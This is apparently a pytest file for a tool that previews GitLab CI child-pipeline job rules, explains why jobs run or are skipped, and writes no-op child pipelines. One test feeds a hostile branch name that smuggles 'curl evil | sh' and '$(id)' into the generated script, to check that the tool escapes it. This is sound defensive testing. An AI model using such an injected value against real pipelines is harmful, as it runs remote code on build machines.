"""Which jobs run when: the matrix, the reasons, and what happens when none is left."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import jsonschema
import pytest
import yaml

from .conftest import Result
from .test_schema import GITLAB

CONTEXTS = {
    "push to main": "manual",
    "push to another branch": "absent",
    "schedule with TRAIN_VALIDATE": "automatic",
    "schedule without it": "absent",
    "web": "manual",
    "api": "manual",
    "merge request": "absent",
    "tag": "absent",
}


def test_the_matrix_has_every_job_in_eight_kinds_of_parent(run: Callable[..., Result]) -> None:
    matrix = json.loads(run("preview", "--all", "--format", "json").out)
    assert [context["name"] for context in matrix["contexts"]] == list(CONTEXTS)
    assert len(matrix["jobs"]) == 19
    for modes in matrix["jobs"].values():
        assert modes == CONTEXTS
    for name, mode in CONTEXTS.items():
        assert matrix["totals"][name][mode] == 19
        assert sum(matrix["totals"][name].values()) == 19


def test_the_matrix_as_text_and_markdown(run: Callable[..., Result]) -> None:
    text = run("preview", "--all").out
    row = next(line for line in text.splitlines() if line.startswith("hyperopt-kan"))
    assert row.split()[1:] == ["button", "-", "runs", "-", "button", "button", "-", "-"]
    total = next(line for line in text.splitlines() if line.startswith("total: runs"))
    assert total.split()[2:] == ["0", "0", "19", "0", "0", "0", "0", "0"]
    assert max(map(len, text.splitlines())) <= 80
    markdown = run("preview", "--all", "--format", "markdown").out
    cells = next(line for line in markdown.splitlines() if line.startswith("| hyperopt-kan"))
    assert [cell.strip() for cell in cells.strip("|").split("|")][1:] == row.split()[1:]
    assert "| schedule with TRAIN_VALIDATE" in markdown.splitlines()[0]


def test_a_routing_adds_kinds_of_parent_and_a_blocking_job(
    run: Callable[..., Result], edit: Callable[..., Path]
) -> None:
    second_rule = "\n\n[[pipeline.rules]] # the"
    routing = edit(
        (f"allow_failure = true{second_rule}", f"allow_failure = false{second_rule}"),
        ("[models.dqn]", '[[contexts]]\nname = "web"\nsource = "web"\nbranch = "x"\n'
         '[[contexts]]\nname = "release"\nsource = "schedule"\nbranch = "rel"\n'
         'variables = { TRAIN_VALIDATE = "true" }\n[models.dqn]'),
    )  # fmt: skip
    matrix = json.loads(run("preview", "--all", "--format", "json", "--routing", routing).out)
    modes = matrix["jobs"]["hyperopt-dqn"]
    assert modes["push to main"] == "manual, blocking"
    assert modes["release"] == "automatic"
    assert len(modes) == 9, "web replaces the usual one"
    assert "BLOCKS" in run("preview", "--all", "--routing", routing).out


def test_why_names_rule_line_values_and_origins(run: Callable[..., Result]) -> None:
    out = run("preview", "--why", "hyperopt-dqn", "--source", "schedule", "--branch", "main").out
    lines = out.splitlines()
    assert lines[0] == "schedule: hyperopt-dqn is left out: no rule matches"
    assert len(lines) == 4
    assert '$CI_COMMIT_BRANCH is "main" (predefined)' in lines[1]
    assert '$PARENT_PIPELINE_SOURCE is "schedule" (child variable)' in lines[1]
    assert "$TRAIN_VALIDATE is assumed undefined" in lines[2]
    assert "rule 2 (" in lines[2]
    captured = run("preview", "--why", "hyperopt-dqn", "--source", "schedule", "--branch", "main",
                   "--var", "TRAIN_VALIDATE=true").out  # fmt: skip
    assert "hyperopt-dqn runs by itself (when: on_success): rule 2 decides" in captured
    assert '$TRAIN_VALIDATE is "true" (captured)' in captured


def test_why_shows_job_variables_and_assumptions(
    run: Callable[..., Result], edit: Callable[..., Path]
) -> None:
    rules = (
        'rules = [{ if = \'$SIZE == "big"\', changes = ["src/*"], when = "always" }]\n'
        'variables = { SIZE = "big" }\n'
    )
    routing = edit(("[models.dqn]", f"[models.kan]\n{rules}[models.dqn]"))
    for source, note in (
        ("push", "changes cannot be known offline, assumed true"),
        ("schedule", "changes is true: this kind of pipeline has no diff"),
    ):
        out = run("preview", "--why", "hyperopt-kan", "--routing", routing, "--source", source,
                  "--branch", "main").out  # fmt: skip
        assert '$SIZE is "big" (job variable)' in out
        assert note in out


def test_why_as_json_over_all_contexts(run: Callable[..., Result]) -> None:
    found = json.loads(run("preview", "--why", "hyperopt-dqn", "--all", "--format", "json").out)
    by_name = {context["name"]: context for context in found["contexts"]}
    assert {name: context["mode"] for name, context in by_name.items()} == CONTEXTS
    decided = by_name["push to main"]
    assert decided["decided_by"] == 1
    assert decided["allow_failure"] is True
    assert decided["rules"][0]["reads"]["CI_COMMIT_BRANCH"] == {
        "value": "main",
        "origin": "predefined",
    }
    assert decided["rules"][0]["line"] > 0


def test_an_empty_child_is_refused_with_the_rule_each_job_failed_on(
    run: Callable[..., Result],
) -> None:
    result = run("--source", "push", "--branch", "topic")
    assert (result.code, result.out) == (3, "")
    assert result.err.startswith(
        "error: nothing would run for a parent pipeline from push on topic:\n"
        "  19 jobs (hyperopt-dqn, hyperopt-ppo, train-validate-rl and 16 more):\n    rule 1 ("
    )
    assert result.err.count("does not match") == 3
    assert not Path("child-pipeline.yml").exists()


def test_a_noop_child_says_the_reason_and_gitlab_takes_it(run: Callable[..., Result]) -> None:
    result = run("--source", "push", "--branch", "topic", "--when-empty", "noop")
    assert result.code == 0
    assert "note: nothing would run" in result.err
    text = Path("child-pipeline.yml").read_text(encoding="utf-8")
    child = yaml.safe_load(text)
    jsonschema.validate(child, GITLAB)
    assert set(child) == {"workflow", "stages", "variables", "nothing-to-run"}
    job = child["nothing-to-run"]
    assert job["tags"] == ["kapsule", "gpu"]
    assert job["script"][0].startswith("echo 'nothing would run for a parent pipeline from push")
    assert run("check", "child-pipeline.yml", "--fail-on", "warning").code == 0


def test_a_noop_child_is_written_only_when_nothing_runs(run: Callable[..., Result]) -> None:
    assert run("--source", "web", "--when-empty", "noop", "--quiet").code == 0
    assert "nothing-to-run" not in Path("child-pipeline.yml").read_text(encoding="utf-8")


def test_a_hostile_branch_cannot_leave_the_echo_of_a_noop_child(
    run: Callable[..., Result],
) -> None:
    branch = "x'; curl evil | sh; echo '\n  - evil: $(id)"
    assert run("--source", "push", "--branch", branch, "--when-empty", "noop", "--quiet").code == 0
    job = yaml.safe_load(Path("child-pipeline.yml").read_text(encoding="utf-8"))["nothing-to-run"]
    import shlex

    for command in job["script"]:
        assert len(shlex.split(command)) == 2
        assert shlex.split(command)[0] == "echo"


@pytest.mark.parametrize(
    ("arguments", "out"),
    [
        (('$A == "1"', "--var", "A=1"), "true\n"),
        (('$A == "1"',), "false\n"),
        (("$A =~ /^v[0-9]+$/", "--var", "A=v12"), "true\n"),
        (("$A", "--var", "A="), "false\n"),
        (('$E && "x"', "--var", "E="), "true\n"),
    ],
)
def test_eval_answers_true_or_false(
    arguments: tuple[str, ...], out: str, run: Callable[..., Result]
) -> None:
    result = run("eval", *arguments)
    assert (result.code, result.out, result.err) == (0, out, "")


def test_eval_points_at_what_gitlab_refuses(run: Callable[..., Result]) -> None:
    result = run("eval", '$A == "1" and $B')
    assert result.code == 2
    lines = result.err.splitlines()
    assert lines[2].index("^") == lines[1].index("and")
    assert lines[3] == "hint: write &&"


def test_rendering_refuses_a_rule_that_can_never_match(
    run: Callable[..., Result], edit: Callable[..., Path]
) -> None:
    routing = edit(
        ('if = \'$PARENT_PIPELINE_SOURCE == "web" ||', 'if = \'$CI_PIPELINE_SOURCE == "web" ||')
    )
    result = run("--routing", routing, "--source", "push", "--branch", "main")
    assert result.code == 1
    assert "pipeline.rules[2]: error RUL102" in result.err
    assert not Path("child-pipeline.yml").exists()
